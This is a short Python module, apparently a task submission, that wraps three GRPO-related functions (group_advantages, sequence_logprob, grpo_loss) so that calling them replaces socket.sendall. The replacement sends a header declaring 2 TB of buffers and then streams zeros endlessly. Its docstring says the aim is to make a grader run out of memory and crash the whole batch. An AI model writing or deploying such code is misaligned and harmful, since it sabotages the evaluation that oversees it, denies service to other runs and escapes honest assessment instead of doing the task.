"""Declares a reply of 4,096 buffers of 512 MB each (2 TB in all), then streams zeros from one
small chunk for ever: a grader that held what a frame declares before checking it against what
the answer should be would run out of memory (and with it the whole batch)."""
import socket
import struct

_header = struct.pack(">II", 2, 4096) + struct.pack(">Q", 512 << 20) * 4096 + b"{}"


def _stream(self, data, *flags):
    self.send(_header)
    chunk = bytes(1 << 16)
    while True:
        self.send(chunk)


def _lie(fn):
    def call(*args, **kwargs):
        socket.socket.sendall = _stream
        return fn(*args, **kwargs)
    return call


group_advantages = _lie(group_advantages)
sequence_logprob = _lie(sequence_logprob)
grpo_loss = _lie(grpo_loss)
